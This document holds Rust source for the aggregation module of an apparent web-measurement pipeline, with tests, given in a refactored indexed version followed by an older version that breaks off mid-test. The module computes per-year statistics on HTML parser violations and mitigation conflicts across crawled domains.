            let analyzed = self.analyzed[y];
            out.script_in_attribute[y] =
                (self.script_in_attribute[y], percent(self.script_in_attribute[y], analyzed));
            out.script_in_nonced_script[y] = self.script_in_nonced_script[y];
            out.newline_in_url[y] =
                (self.newline_in_url[y], percent(self.newline_in_url[y], analyzed));
            out.newline_and_lt_in_url[y] =
                (self.newline_and_lt_in_url[y], percent(self.newline_and_lt_in_url[y], analyzed));
        }
        out
    }

    /// §5.3.2 rollout simulation: per enforcement stage, the share of
    /// analyzed domains per year with at least one page blocked.
    pub fn rollout_breakage(&self) -> Vec<(u8, YearSeries)> {
        (0..STAGES).map(|si| (si as u8, self.share_series(&self.stage_per_year[si]))).collect()
    }

    /// §4.2's usage aside: domains using `math` elements per year.
    pub fn math_usage_by_year(&self) -> [usize; YEARS] {
        self.math
    }

    /// Domains violating `kind` in `snap` (analyzed only).
    pub fn domains_with_kind_in_year(&self, kind: ViolationKind, snap: Snapshot) -> usize {
        self.kind_per_year[kind_bit(kind)][snap.index()]
    }

    /// §5.2's churn observation, quantified.
    pub fn violation_churn(&self) -> Vec<ChurnRow> {
        self.churn.clone()
    }

    fn share_series(&self, hits: &[usize; YEARS]) -> YearSeries {
        let mut out = [0.0; YEARS];
        for y in 0..YEARS {
            out[y] = percent(hits[y], self.analyzed[y]);
        }
        out
    }
}

/// A [`ResultStore`] with its [`AggregateIndex`] and load provenance —
/// the unit the report renderer, the server, and the CLI pass around so a
/// store is loaded and indexed exactly once per invocation.
///
/// Derefs to the store, so read-only record access (`store.scale`,
/// `store.records`, …) keeps working unchanged.
#[derive(Debug)]
pub struct IndexedStore {
    store: ResultStore,
    pub index: AggregateIndex,
    /// On-disk encoding, when the store came from a file.
    pub format: Option<StoreFormat>,
    /// Per-segment summaries (footers for v1 files, derived otherwise).
    pub segments: Vec<SegmentSummary>,
    /// Segments a partial load dropped (empty unless `allow_partial`).
    pub dropped: Vec<DroppedSegment>,
}

impl Deref for IndexedStore {
    type Target = ResultStore;

    fn deref(&self) -> &ResultStore {
        &self.store
    }
}

impl IndexedStore {
    /// Index an in-memory store (fresh scans; tests).
    pub fn new(store: ResultStore) -> Self {
        let index = AggregateIndex::build(&store);
        let segments = SegmentSummary::derive(&store);
        IndexedStore { store, index, format: None, segments, dropped: Vec::new() }
    }

    /// Load (sniffing v0/v1) and index in one step, strictly.
    pub fn load(path: &Path) -> Result<Self, HvError> {
        Self::load_with(path, LoadOptions::default())
    }

    /// [`IndexedStore::load`] with load options (`allow_partial`).
    pub fn load_with(path: &Path, opts: LoadOptions) -> Result<Self, HvError> {
        ResultStore::load_with(path, opts).map(Self::from_loaded)
    }

    /// Index an already-loaded store, keeping its provenance.
    pub fn from_loaded(loaded: LoadedStore) -> Self {
        let index = AggregateIndex::build(&loaded.store);
        IndexedStore {
            store: loaded.store,
            index,
            format: Some(loaded.format),
            segments: loaded.segments,
            dropped: loaded.dropped,
        }
    }

    /// The underlying store, for callers that need to mutate or persist.
    pub fn into_store(self) -> ResultStore {
        self.store
    }
}

pub(crate) fn percent(part: usize, whole: usize) -> f64 {
    if whole == 0 {
        0.0
    } else {
        100.0 * part as f64 / whole as f64
    }
}

/// The original per-query implementations, kept verbatim as the
/// equivalence oracle for [`AggregateIndex`]: each function re-scans the
/// store independently, exactly as the pre-index module did. Tests and
/// benches compare these against the index views; production paths use
/// the index.
pub mod legacy {
    use super::*;
    use crate::store::DomainYearRecord;

    /// Table 2: analyzed domains per crawl.
    pub fn table2(store: &ResultStore) -> Vec<Table2Row> {
        let mut rows = Vec::new();
        for snap in Snapshot::ALL {
            let mut found = 0usize;
            let mut analyzed = 0usize;
            let mut pages = 0usize;
            for r in store.by_snapshot(snap) {
                found += 1;
                if r.analyzed() {
                    analyzed += 1;
                    pages += r.pages_analyzed;
                }
            }
            rows.push(Table2Row {
                snapshot: snap.crawl_id().to_owned(),
                domains_found: found,
                domains_analyzed: analyzed,
                analyzed_share: percent(analyzed, found),
                avg_pages: if analyzed > 0 { pages as f64 / analyzed as f64 } else { 0.0 },
            });
        }
        rows
    }

    /// The Table-2 "Total (All Snaps.)" row.
    pub fn table2_total(store: &ResultStore) -> (usize, usize) {
        let found: BTreeSet<u64> = store.records.iter().map(|r| r.domain_id).collect();
        let analyzed = store.analyzed_domains();
        (found.len(), analyzed.len())
    }

    /// Figure 8: overall distribution, sorted descending.
    pub fn overall_distribution(store: &ResultStore) -> Vec<DistributionBar> {
        let analyzed = store.analyzed_domains();
        let mut per_kind: BTreeMap<ViolationKind, BTreeSet<u64>> = BTreeMap::new();
        for r in &store.records {
            for &k in &r.kinds {
                per_kind.entry(k).or_default().insert(r.domain_id);
            }
        }
        let mut bars: Vec<DistributionBar> = ViolationKind::ALL
            .iter()
            .map(|&kind| {
                let domains = per_kind.get(&kind).map(|s| s.len()).unwrap_or(0);
                DistributionBar { kind, domains, share: percent(domains, analyzed.len()) }
            })
            .collect();
        bars.sort_by(|a, b| b.domains.cmp(&a.domains).then(a.kind.cmp(&b.kind)));
        bars
    }

    /// §4.2: share of analyzed domains with ≥ 1 violation in any year.
    pub fn overall_violating_share(store: &ResultStore) -> f64 {
        let analyzed = store.analyzed_domains();
        let violating: BTreeSet<u64> =
            store.records.iter().filter(|r| r.violating()).map(|r| r.domain_id).collect();
        percent(violating.intersection(&analyzed).count(), analyzed.len())
    }

    /// Figure 9: share of analyzed domains with ≥ 1 violation, per year.
    pub fn violating_domains_by_year(store: &ResultStore) -> YearSeries {
        per_year(store, |r| r.violating())
    }

    /// Figure 10: per-group yearly shares.
    pub fn group_trends(store: &ResultStore) -> BTreeMap<ProblemGroup, YearSeries> {
        ProblemGroup::ALL
            .iter()
            .map(|&g| (g, per_year(store, move |r| r.kinds.iter().any(|k| k.group() == g))))
            .collect()
    }

    /// Figures 16–21: per-kind yearly shares.
    pub fn kind_trend(store: &ResultStore, kind: ViolationKind) -> YearSeries {
        per_year(store, move |r| r.kinds.contains(&kind))
    }

    /// §4.4 auto-fix projection for one snapshot.
    pub fn autofix_projection(store: &ResultStore, snap: Snapshot) -> AutofixProjection {
        let mut analyzed = 0usize;
        let mut violating = 0usize;
        let mut still = 0usize;
        for r in store.by_snapshot(snap) {
            if !r.analyzed() {
                continue;
            }
            analyzed += 1;
            if r.violating() {
                violating += 1;
                if !r.kinds_after_autofix.is_empty() {
                    still += 1;
                }
            }
        }
        AutofixProjection {
            snapshot: snap.crawl_id().to_owned(),
            analyzed,
            violating,
            violating_after_fix: still,
            violating_share: percent(violating, analyzed),
            after_share: percent(still, analyzed),
            fixed_share: percent(violating - still, violating),
        }
    }

    /// §4.5 mitigation-conflict series.
    pub fn mitigation_trends(store: &ResultStore) -> MitigationTrends {
        let mut out = MitigationTrends {
            script_in_attribute: [(0, 0.0); YEARS],
            script_in_nonced_script: [0; YEARS],
            newline_in_url: [(0, 0.0); YEARS],
            newline_and_lt_in_url: [(0, 0.0); YEARS],
        };
        for snap in Snapshot::ALL {
            let y = snap.index();
            let mut analyzed = 0usize;
            let (mut s, mut ns, mut nl, mut nllt) = (0usize, 0usize, 0usize, 0usize);
            for r in store.by_snapshot(snap).filter(|r| r.analyzed()) {
                analyzed += 1;
                s += usize::from(r.mitigations.script_in_attribute);
                ns += usize::from(r.mitigations.script_in_nonced_script);
                nl += usize::from(r.mitigations.newline_in_url);
                nllt += usize::from(r.mitigations.newline_and_lt_in_url);
            }
            out.script_in_attribute[y] = (s, percent(s, analyzed));
            out.script_in_nonced_script[y] = ns;
            out.newline_in_url[y] = (nl, percent(nl, analyzed));
            out.newline_and_lt_in_url[y] = (nllt, percent(nllt, analyzed));
        }
        out
    }

    /// §5.3.2 rollout simulation.
    pub fn rollout_breakage(store: &ResultStore) -> Vec<(u8, YearSeries)> {
        (0..=4u8)
            .map(|stage| {
                let list = hv_core::strict::EnforcementList::stage(stage);
                let series = per_year(store, move |r| r.kinds.iter().any(|&k| list.contains(k)));
                (stage, series)
            })
            .collect()
    }

    /// §4.2's usage aside: `math`-using domains per year.
    pub fn math_usage_by_year(store: &ResultStore) -> [usize; YEARS] {
        let mut out = [0usize; YEARS];
        for snap in Snapshot::ALL {
            out[snap.index()] =
                store.by_snapshot(snap).filter(|r| r.analyzed() && r.uses_math).count();
        }
        out
    }

    /// Domains violating `kind` in `snap` (analyzed only).
    pub fn domains_with_kind_in_year(
        store: &ResultStore,
        kind: ViolationKind,
        snap: Snapshot,
    ) -> usize {
        store.by_snapshot(snap).filter(|r| r.analyzed() && r.kinds.contains(&kind)).count()
    }

    /// §5.2's churn observation, quantified.
    pub fn violation_churn(store: &ResultStore) -> Vec<ChurnRow> {
        let mut out = Vec::new();
        for w in Snapshot::ALL.windows(2) {
            let (a, b) = (w[0], w[1]);
            let mut added = 0usize;
            let mut removed = 0usize;
            // Domains analyzed in both years.
            let in_a: BTreeMap<u64, &DomainYearRecord> =
                store.by_snapshot(a).filter(|r| r.analyzed()).map(|r| (r.domain_id, r)).collect();
            for rb in store.by_snapshot(b).filter(|r| r.analyzed()) {
                let Some(ra) = in_a.get(&rb.domain_id) else { continue };
                let ka: BTreeSet<_> = ra.kinds.iter().collect();
                let kb: BTreeSet<_> = rb.kinds.iter().collect();
                added += kb.difference(&ka).count();
                removed += ka.difference(&kb).count();
            }
            out.push(ChurnRow {
                from: a.crawl_id().to_owned(),
                to: b.crawl_id().to_owned(),
                added,
                removed,
            });
        }
        out
    }

    fn per_year(store: &ResultStore, pred: impl Fn(&DomainYearRecord) -> bool) -> YearSeries {
        let mut out = [0.0; YEARS];
        for snap in Snapshot::ALL {
            let mut analyzed = 0usize;
            let mut hits = 0usize;
            for r in store.by_snapshot(snap).filter(|r| r.analyzed()) {
                analyzed += 1;
                if pred(r) {
                    hits += 1;
                }
            }
            out[snap.index()] = percent(hits, analyzed);
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::store::DomainYearRecord;

    fn store_with(records: Vec<DomainYearRecord>) -> ResultStore {
        let mut s = ResultStore::new(1, 1.0, 100);
        s.records = records;
        s.finalize();
        s
    }

    fn rec(domain: u64, snap: usize, kinds: &[ViolationKind], analyzed: bool) -> DomainYearRecord {
        DomainYearRecord {
            domain_id: domain,
            domain_name: format!("d{domain}.com"),
            rank: domain as u32,
            snapshot: Snapshot::ALL[snap],
            pages_found: 10,
            pages_analyzed: if analyzed { 10 } else { 0 },
            kinds: kinds.iter().copied().collect(),
            page_counts: Default::default(),
            mitigations: Default::default(),
            kinds_after_autofix: kinds
                .iter()
                .copied()
                .filter(|k| k.fixability() == hv_core::Fixability::Manual)
                .collect(),
            uses_math: false,
            pages_faulted: 0,
            pages_degraded: 0,
            pages_quarantined: 0,
        }
    }

    /// The bitmask fold relies on `k as usize` matching the kind's
    /// position in `ViolationKind::ALL`.
    #[test]
    fn kind_discriminants_match_all_order() {
        for (i, &k) in ViolationKind::ALL.iter().enumerate() {
            assert_eq!(k as usize, i, "{k:?} discriminant out of ALL order");
        }
        assert!(ViolationKind::ALL.len() <= 32, "kind bitmask must fit u32");
    }

    #[test]
    fn table2_counts_found_and_analyzed() {
        let s = store_with(vec![rec(1, 0, &[], true), rec(2, 0, &[], false), rec(1, 1, &[], true)]);
        let rows = legacy::table2(&s);
        assert_eq!(rows[0].domains_found, 2);
        assert_eq!(rows[0].domains_analyzed, 1);
        assert!((rows[0].analyzed_share - 50.0).abs() < 1e-9);
        assert_eq!(rows[1].domains_found, 1);
        let (found, analyzed) = legacy::table2_total(&s);
        // Domain 2 was found but never successfully analyzed.
        assert_eq!((found, analyzed), (2, 1));
        assert_eq!(AggregateIndex::build(&s).table2_total(), (2, 1));
    }

    #[test]
    fn distribution_counts_domains_once() {
        let s = store_with(vec![
            rec(1, 0, &[ViolationKind::FB2], true),
            rec(1, 1, &[ViolationKind::FB2], true),
            rec(2, 0, &[], true),
        ]);
        let bars = legacy::overall_distribution(&s);
        let fb2 = bars.iter().find(|b| b.kind == ViolationKind::FB2).unwrap();
        assert_eq!(fb2.domains, 1);
        assert!((fb2.share - 50.0).abs() < 1e-9);
        // Sorted descending.
        assert!(bars.windows(2).all(|w| w[0].domains >= w[1].domains));
    }

    #[test]
    fn yearly_series_uses_analyzed_denominator() {
        let s = store_with(vec![
            rec(1, 0, &[ViolationKind::DM3], true),
            rec(2, 0, &[], true),
            rec(3, 0, &[ViolationKind::DM3], false), // not analyzed: excluded
        ]);
        let series = legacy::violating_domains_by_year(&s);
        assert!((series[0] - 50.0).abs() < 1e-9);
        let from_index = AggregateIndex::build(&s).violating_domains_by_year();
        assert_eq!(series, from_index);
    }

    #[test]
    fn group_trends_group_membership() {
        let s = store_with(vec![
            rec(1, 7, &[ViolationKind::FB1], true),
            rec(2, 7, &[ViolationKind::DE4], true),
            rec(3, 7, &[], true),
        ]);
        let g = legacy::group_trends(&s);
        assert!((g[&ProblemGroup::FilterBypass][7] - 33.33).abs() < 0.1);
        assert!((g[&ProblemGroup::DataExfiltration][7] - 33.33).abs() < 0.1);
        assert!((g[&ProblemGroup::HtmlFormatting][7] - 0.0).abs() < 1e-9);
        assert_eq!(g, AggregateIndex::build(&s).group_trends());
    }

    #[test]
    fn autofix_projection_math() {
        let s = store_with(vec![
            rec(1, 7, &[ViolationKind::FB2], true), // fully fixable
            rec(2, 7, &[ViolationKind::FB2, ViolationKind::HF4], true), // HF4 remains
            rec(3, 7, &[], true),
        ]);
        let p = legacy::autofix_projection(&s, Snapshot::ALL[7]);
        assert_eq!(p.analyzed, 3);
        assert_eq!(p.violating, 2);
        assert_eq!(p.violating_after_fix, 1);
        assert!((p.fixed_share - 50.0).abs() < 1e-9);
    }

    #[test]
    fn rollout_breakage_grows_with_stage() {
        let s = store_with(vec![
            rec(1, 7, &[ViolationKind::FB2], true), // only blocked at stage 4
            rec(2, 7, &[ViolationKind::DE2], true), // blocked from stage 1
            rec(3, 7, &[], true),
        ]);
        let rollout = legacy::rollout_breakage(&s);
        assert_eq!(rollout.len(), 5);
        assert!((rollout[0].1[7] - 0.0).abs() < 1e-9, "stage 0 blocks nothing");
        assert!((rollout[1].1[7] - 33.33).abs() < 0.1, "stage 1 blocks the DE2 domain");
        assert!((rollout[4].1[7] - 66.67).abs() < 0.1, "stage 4 blocks all violating domains");
        // Monotone in stage.
        for w in rollout.windows(2) {
            assert!(w[1].1[7] >= w[0].1[7]);
        }
    }

    #[test]
    fn kind_trend_series() {
        let s = store_with(vec![
            rec(1, 0, &[ViolationKind::HF4], true),
            rec(1, 7, &[], true),
            rec(2, 7, &[ViolationKind::HF4], true),
            rec(3, 7, &[], true),
        ]);
        let t = legacy::kind_trend(&s, ViolationKind::HF4);
        assert!((t[0] - 100.0).abs() < 1e-9);
        assert!((t[7] - 33.33).abs() < 0.1);
    }

    /// The index must agree with every legacy query, bit for bit, on a
    /// store exercising every counter: non-analyzed records, multiple
    /// kinds, mitigations, math usage, autofix leftovers, churn in both
    /// directions. Serialized-JSON equality is float-bit equality.
    #[test]
    fn index_views_match_legacy_oracle() {
        let mut records = vec![
            rec(1, 0, &[ViolationKind::FB2, ViolationKind::DM3], true),
            rec(1, 1, &[ViolationKind::FB2], true),
            rec(2, 0, &[ViolationKind::HF4], true),
            rec(2, 1, &[], true),
            rec(3, 0, &[ViolationKind::DE2], false), // found, never analyzed
            rec(4, 6, &[ViolationKind::DE1, ViolationKind::HF5_1], true),
            rec(4, 7, &[ViolationKind::DE1], true),
            rec(5, 7, &[], true),
        ];
        records[0].mitigations.script_in_attribute = true;
        records[0].mitigations.newline_in_url = true;
        records[5].mitigations.newline_and_lt_in_url = true;
        records[1].uses_math = true;
        records[6].uses_math = true;
        let s = store_with(records);
        let idx = AggregateIndex::build(&s);

        // Compare via serde_json strings: identical floats serialize
        // identically (and differing bits never collide under ryu).
        assert_eq!(
            serde_json::to_string(&idx.table2()).unwrap(),
            serde_json::to_string(&legacy::table2(&s)).unwrap()
        );
        assert_eq!(idx.table2_total(), legacy::table2_total(&s));
        assert_eq!(
            serde_json::to_string(&idx.overall_distribution()).unwrap(),
            serde_json::to_string(&legacy::overall_distribution(&s)).unwrap()
        );
        assert_eq!(
            idx.overall_violating_share().to_bits(),
            legacy::overall_violating_share(&s).to_bits()
        );
        assert_eq!(idx.violating_domains_by_year(), legacy::violating_domains_by_year(&s));
        assert_eq!(idx.group_trends(), legacy::group_trends(&s));
        for &k in ViolationKind::ALL.iter() {
            assert_eq!(idx.kind_trend(k), legacy::kind_trend(&s, k), "kind_trend {k:?}");
            for snap in Snapshot::ALL {
                assert_eq!(
                    idx.domains_with_kind_in_year(k, snap),
                    legacy::domains_with_kind_in_year(&s, k, snap)
                );
            }
        }
        for snap in Snapshot::ALL {
            assert_eq!(
                serde_json::to_string(&idx.autofix_projection(snap)).unwrap(),
                serde_json::to_string(&legacy::autofix_projection(&s, snap)).unwrap()
            );
        }
        assert_eq!(
            serde_json::to_string(&idx.mitigation_trends()).unwrap(),
            serde_json::to_string(&legacy::mitigation_trends(&s)).unwrap()
        );
        assert_eq!(idx.rollout_breakage(), legacy::rollout_breakage(&s));
        assert_eq!(idx.math_usage_by_year(), legacy::math_usage_by_year(&s));
        assert_eq!(
            serde_json::to_string(&idx.violation_churn()).unwrap(),
            serde_json::to_string(&legacy::violation_churn(&s)).unwrap()
        );
    }

    #[test]
    fn indexed_store_derefs_and_derives_segments() {
        let s = store_with(vec![rec(1, 0, &[ViolationKind::FB2], true), rec(1, 3, &[], true)]);
        let indexed = IndexedStore::new(s);
        assert_eq!(indexed.scale, 1.0); // Deref into the store
        assert!(indexed.format.is_none());
        assert_eq!(indexed.segments.len(), 2);
        assert_eq!(indexed.segments[0].snapshot, Snapshot::ALL[0]);
        assert_eq!(indexed.segments[0].domains_violating, 1);
        assert_eq!(indexed.segments[1].domains_violating, 0);
        assert!(indexed.dropped.is_empty());
    }

    #[test]
    fn churn_counts_added_and_removed_pairs() {
        let mut s = ResultStore::new(1, 1.0, 10);
        // Domain 1: FB2 in 2015, FB2+DM3 in 2016 (one added).
        s.records.push(rec(1, 0, &[ViolationKind::FB2], true));
        s.records.push(rec(1, 1, &[ViolationKind::FB2, ViolationKind::DM3], true));
        // Domain 2: HF4 in 2015, clean in 2016 (one removed).
        s.records.push(rec(2, 0, &[ViolationKind::HF4], true));
        s.records.push(rec(2, 1, &[], true));
        s.finalize();
        let churn = legacy::violation_churn(&s);
        assert_eq!(churn.len(), 7);
        assert_eq!(churn[0].added, 1);
        assert_eq!(churn[0].removed, 1);
        assert_eq!(churn[1].added + churn[1].removed, 0);
        let from_index = AggregateIndex::build(&s).violation_churn();
        assert_eq!(
            serde_json::to_string(&churn).unwrap(),
            serde_json::to_string(&from_index).unwrap()
        );
    }
}
