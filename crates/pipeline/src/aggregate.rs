//! Aggregation queries — every number behind the paper's tables and
//! figures, computed from the [`ResultStore`].

use crate::store::ResultStore;
use hv_core::{ProblemGroup, ViolationKind};
use hv_corpus::snapshots::YEARS;
use hv_corpus::Snapshot;
use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, BTreeSet};

/// One Table-2 row.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Table2Row {
    pub snapshot: String,
    pub domains_found: usize,
    pub domains_analyzed: usize,
    pub analyzed_share: f64,
    pub avg_pages: f64,
}

/// Table 2: analyzed domains per crawl.
pub fn table2(store: &ResultStore) -> Vec<Table2Row> {
    let mut rows = Vec::new();
    for snap in Snapshot::ALL {
        let mut found = 0usize;
        let mut analyzed = 0usize;
        let mut pages = 0usize;
        for r in store.by_snapshot(snap) {
            found += 1;
            if r.analyzed() {
                analyzed += 1;
                pages += r.pages_analyzed;
            }
        }
        rows.push(Table2Row {
            snapshot: snap.crawl_id().to_owned(),
            domains_found: found,
            domains_analyzed: analyzed,
            analyzed_share: percent(analyzed, found),
            avg_pages: if analyzed > 0 { pages as f64 / analyzed as f64 } else { 0.0 },
        });
    }
    rows
}

/// The Table-2 "Total (All Snaps.)" row: domains found / analyzed at least
/// once.
pub fn table2_total(store: &ResultStore) -> (usize, usize) {
    let found: BTreeSet<u64> = store.records.iter().map(|r| r.domain_id).collect();
    let analyzed = store.analyzed_domains();
    (found.len(), analyzed.len())
}

/// One Figure-8 bar: domains showing the kind at least once over the whole
/// study, as count and share of all analyzed domains.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct DistributionBar {
    pub kind: ViolationKind,
    pub domains: usize,
    pub share: f64,
}

/// Figure 8: overall distribution of violations, sorted descending (the
/// paper's x-axis order).
pub fn overall_distribution(store: &ResultStore) -> Vec<DistributionBar> {
    let analyzed = store.analyzed_domains();
    let mut per_kind: BTreeMap<ViolationKind, BTreeSet<u64>> = BTreeMap::new();
    for r in &store.records {
        for &k in &r.kinds {
            per_kind.entry(k).or_default().insert(r.domain_id);
        }
    }
    let mut bars: Vec<DistributionBar> = ViolationKind::ALL
        .iter()
        .map(|&kind| {
            let domains = per_kind.get(&kind).map(|s| s.len()).unwrap_or(0);
            DistributionBar { kind, domains, share: percent(domains, analyzed.len()) }
        })
        .collect();
    bars.sort_by(|a, b| b.domains.cmp(&a.domains).then(a.kind.cmp(&b.kind)));
    bars
}

/// §4.2: share of analyzed domains with at least one violation in any year.
pub fn overall_violating_share(store: &ResultStore) -> f64 {
    let analyzed = store.analyzed_domains();
    let violating: BTreeSet<u64> =
        store.records.iter().filter(|r| r.violating()).map(|r| r.domain_id).collect();
    percent(violating.intersection(&analyzed).count(), analyzed.len())
}

/// A yearly series (Figure 9/10/16–21 shape): one value per snapshot.
pub type YearSeries = [f64; YEARS];

/// Figure 9: share of analyzed domains with ≥ 1 violation, per year.
pub fn violating_domains_by_year(store: &ResultStore) -> YearSeries {
    per_year(store, |r| r.violating())
}

/// Figure 10: per problem group, share of analyzed domains violating at
/// least one check of the group, per year.
pub fn group_trends(store: &ResultStore) -> BTreeMap<ProblemGroup, YearSeries> {
    ProblemGroup::ALL
        .iter()
        .map(|&g| (g, per_year(store, move |r| r.kinds.iter().any(|k| k.group() == g))))
        .collect()
}

/// Figures 16–21: share of analyzed domains violating one specific check,
/// per year.
pub fn kind_trend(store: &ResultStore, kind: ViolationKind) -> YearSeries {
    per_year(store, move |r| r.kinds.contains(&kind))
}

/// §4.4: the auto-fix projection for one snapshot — (violating domains,
/// domains still violating after the automatic pass, share fixed).
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct AutofixProjection {
    pub snapshot: String,
    pub analyzed: usize,
    pub violating: usize,
    pub violating_after_fix: usize,
    pub violating_share: f64,
    pub after_share: f64,
    /// Share of violating domains fully fixed by automation.
    pub fixed_share: f64,
}

pub fn autofix_projection(store: &ResultStore, snap: Snapshot) -> AutofixProjection {
    let mut analyzed = 0usize;
    let mut violating = 0usize;
    let mut still = 0usize;
    for r in store.by_snapshot(snap) {
        if !r.analyzed() {
            continue;
        }
        analyzed += 1;
        if r.violating() {
            violating += 1;
            if !r.kinds_after_autofix.is_empty() {
                still += 1;
            }
        }
    }
    AutofixProjection {
        snapshot: snap.crawl_id().to_owned(),
        analyzed,
        violating,
        violating_after_fix: still,
        violating_share: percent(violating, analyzed),
        after_share: percent(still, analyzed),
        fixed_share: percent(violating - still, violating),
    }
}

/// §4.5: the mitigation-conflict series.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct MitigationTrends {
    /// Domains with `<script` inside an attribute value (count, share).
    pub script_in_attribute: [(usize, f64); YEARS],
    /// …of which on a nonced script element (the paper found zero).
    pub script_in_nonced_script: [usize; YEARS],
    /// Domains with a raw newline in a URL attribute.
    pub newline_in_url: [(usize, f64); YEARS],
    /// Domains conflicting with Chromium's newline+`<` blocking.
    pub newline_and_lt_in_url: [(usize, f64); YEARS],
}

pub fn mitigation_trends(store: &ResultStore) -> MitigationTrends {
    let mut out = MitigationTrends {
        script_in_attribute: [(0, 0.0); YEARS],
        script_in_nonced_script: [0; YEARS],
        newline_in_url: [(0, 0.0); YEARS],
        newline_and_lt_in_url: [(0, 0.0); YEARS],
    };
    for snap in Snapshot::ALL {
        let y = snap.index();
        let mut analyzed = 0usize;
        let (mut s, mut ns, mut nl, mut nllt) = (0usize, 0usize, 0usize, 0usize);
        for r in store.by_snapshot(snap).filter(|r| r.analyzed()) {
            analyzed += 1;
            s += usize::from(r.mitigations.script_in_attribute);
            ns += usize::from(r.mitigations.script_in_nonced_script);
            nl += usize::from(r.mitigations.newline_in_url);
            nllt += usize::from(r.mitigations.newline_and_lt_in_url);
        }
        out.script_in_attribute[y] = (s, percent(s, analyzed));
        out.script_in_nonced_script[y] = ns;
        out.newline_in_url[y] = (nl, percent(nl, analyzed));
        out.newline_and_lt_in_url[y] = (nllt, percent(nllt, analyzed));
    }
    out
}

/// §5.3.2 rollout simulation: for each enforcement stage of the proposed
/// STRICT-PARSER deprecation, the share of analyzed domains per year that
/// would have at least one page *blocked* under `default` mode — the
/// breakage browser vendors would weigh at each step.
pub fn rollout_breakage(store: &ResultStore) -> Vec<(u8, YearSeries)> {
    (0..=4u8)
        .map(|stage| {
            let list = hv_core::strict::EnforcementList::stage(stage);
            let series = per_year(store, move |r| r.kinds.iter().any(|&k| list.contains(k)));
            (stage, series)
        })
        .collect()
}

/// §4.2's usage aside: domains using `math` elements per year (the paper
/// saw growth from 42 domains in 2015 to 224 in 2022).
pub fn math_usage_by_year(store: &ResultStore) -> [usize; YEARS] {
    let mut out = [0usize; YEARS];
    for snap in Snapshot::ALL {
        out[snap.index()] = store.by_snapshot(snap).filter(|r| r.analyzed() && r.uses_math).count();
    }
    out
}

/// Usage counter used for §4.2's "math element usage grew" aside: domains
/// whose pages contain at least one page-count entry for a kind.
pub fn domains_with_kind_in_year(
    store: &ResultStore,
    kind: ViolationKind,
    snap: Snapshot,
) -> usize {
    store.by_snapshot(snap).filter(|r| r.analyzed() && r.kinds.contains(&kind)).count()
}

fn per_year(
    store: &ResultStore,
    pred: impl Fn(&crate::store::DomainYearRecord) -> bool,
) -> YearSeries {
    let mut out = [0.0; YEARS];
    for snap in Snapshot::ALL {
        let mut analyzed = 0usize;
        let mut hits = 0usize;
        for r in store.by_snapshot(snap).filter(|r| r.analyzed()) {
            analyzed += 1;
            if pred(r) {
                hits += 1;
            }
        }
        out[snap.index()] = percent(hits, analyzed);
    }
    out
}

fn percent(part: usize, whole: usize) -> f64 {
    if whole == 0 {
        0.0
    } else {
        100.0 * part as f64 / whole as f64
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::store::DomainYearRecord;

    fn store_with(records: Vec<DomainYearRecord>) -> ResultStore {
        let mut s = ResultStore::new(1, 1.0, 100);
        s.records = records;
        s.finalize();
        s
    }

    fn rec(domain: u64, snap: usize, kinds: &[ViolationKind], analyzed: bool) -> DomainYearRecord {
        DomainYearRecord {
            domain_id: domain,
            domain_name: format!("d{domain}.com"),
            rank: domain as u32,
            snapshot: Snapshot::ALL[snap],
            pages_found: 10,
            pages_analyzed: if analyzed { 10 } else { 0 },
            kinds: kinds.iter().copied().collect(),
            page_counts: Default::default(),
            mitigations: Default::default(),
            kinds_after_autofix: kinds
                .iter()
                .copied()
                .filter(|k| k.fixability() == hv_core::Fixability::Manual)
                .collect(),
            uses_math: false,
            pages_faulted: 0,
            pages_degraded: 0,
            pages_quarantined: 0,
        }
    }

    #[test]
    fn table2_counts_found_and_analyzed() {
        let s = store_with(vec![rec(1, 0, &[], true), rec(2, 0, &[], false), rec(1, 1, &[], true)]);
        let rows = table2(&s);
        assert_eq!(rows[0].domains_found, 2);
        assert_eq!(rows[0].domains_analyzed, 1);
        assert!((rows[0].analyzed_share - 50.0).abs() < 1e-9);
        assert_eq!(rows[1].domains_found, 1);
        let (found, analyzed) = table2_total(&s);
        // Domain 2 was found but never successfully analyzed.
        assert_eq!((found, analyzed), (2, 1));
    }

    #[test]
    fn distribution_counts_domains_once() {
        let s = store_with(vec![
            rec(1, 0, &[ViolationKind::FB2], true),
            rec(1, 1, &[ViolationKind::FB2], true),
            rec(2, 0, &[], true),
        ]);
        let bars = overall_distribution(&s);
        let fb2 = bars.iter().find(|b| b.kind == ViolationKind::FB2).unwrap();
        assert_eq!(fb2.domains, 1);
        assert!((fb2.share - 50.0).abs() < 1e-9);
        // Sorted descending.
        assert!(bars.windows(2).all(|w| w[0].domains >= w[1].domains));
    }

    #[test]
    fn yearly_series_uses_analyzed_denominator() {
        let s = store_with(vec![
            rec(1, 0, &[ViolationKind::DM3], true),
            rec(2, 0, &[], true),
            rec(3, 0, &[ViolationKind::DM3], false), // not analyzed: excluded
        ]);
        let series = violating_domains_by_year(&s);
        assert!((series[0] - 50.0).abs() < 1e-9);
    }

    #[test]
    fn group_trends_group_membership() {
        let s = store_with(vec![
            rec(1, 7, &[ViolationKind::FB1], true),
            rec(2, 7, &[ViolationKind::DE4], true),
            rec(3, 7, &[], true),
        ]);
        let g = group_trends(&s);
        assert!((g[&ProblemGroup::FilterBypass][7] - 33.33).abs() < 0.1);
        assert!((g[&ProblemGroup::DataExfiltration][7] - 33.33).abs() < 0.1);
        assert!((g[&ProblemGroup::HtmlFormatting][7] - 0.0).abs() < 1e-9);
    }

    #[test]
    fn autofix_projection_math() {
        let s = store_with(vec![
            rec(1, 7, &[ViolationKind::FB2], true), // fully fixable
            rec(2, 7, &[ViolationKind::FB2, ViolationKind::HF4], true), // HF4 remains
            rec(3, 7, &[], true),
        ]);
        let p = autofix_projection(&s, Snapshot::ALL[7]);
        assert_eq!(p.analyzed, 3);
        assert_eq!(p.violating, 2);
        assert_eq!(p.violating_after_fix, 1);
        assert!((p.fixed_share - 50.0).abs() < 1e-9);
    }

    #[test]
    fn rollout_breakage_grows_with_stage() {
        let s = store_with(vec![
            rec(1, 7, &[ViolationKind::FB2], true), // only blocked at stage 4
